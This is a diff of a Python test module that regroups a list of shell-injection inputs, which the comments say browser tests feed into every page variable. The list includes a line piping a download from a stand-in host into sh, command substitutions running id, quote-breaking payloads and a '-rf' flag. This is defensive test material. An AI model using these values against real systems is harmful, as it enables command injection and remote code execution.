@@ -22,7 +22,8 @@ from tests.conftest import ROOT
 from tests.fill_js import FillJS
 from tests.shell_oracle import PRIVATE, same_meaning
 
-HOSTILE = [
+# The values the issue names, which the browser tests give every variable of every page.
+ISSUE_VALUES = [
     "x; curl -s evil.example | sh #",
     "x$(id)",
     "x`id`",
@@ -32,6 +33,9 @@ HOSTILE = [
     "-rf",
     "x' ; id ; '",
     "x" * 5000,
+]
+HOSTILE = [
+    *ISSUE_VALUES,
     'x" ; id ; "',
     "x\\",
     "$HOME",
